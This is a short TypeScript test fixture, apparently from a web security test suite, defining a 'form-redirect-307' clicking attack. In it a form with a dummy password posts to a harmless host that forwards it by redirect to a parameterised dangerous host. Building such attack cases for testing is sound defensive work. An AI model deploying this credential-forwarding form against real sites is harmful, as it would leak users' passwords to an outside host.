import { clicking } from '../support/attacks/clicking.ts';

/** A harmless host passes a form with a password on to a dangerous host. */
export const attack = clicking(
  'form-redirect-307',
  'form',
  (host) => `<form method="post" action="/pass-on?to=http://${host}/">
    <input name="password" value="hunter2"><button class="bait">Log in</button></form>`,
);
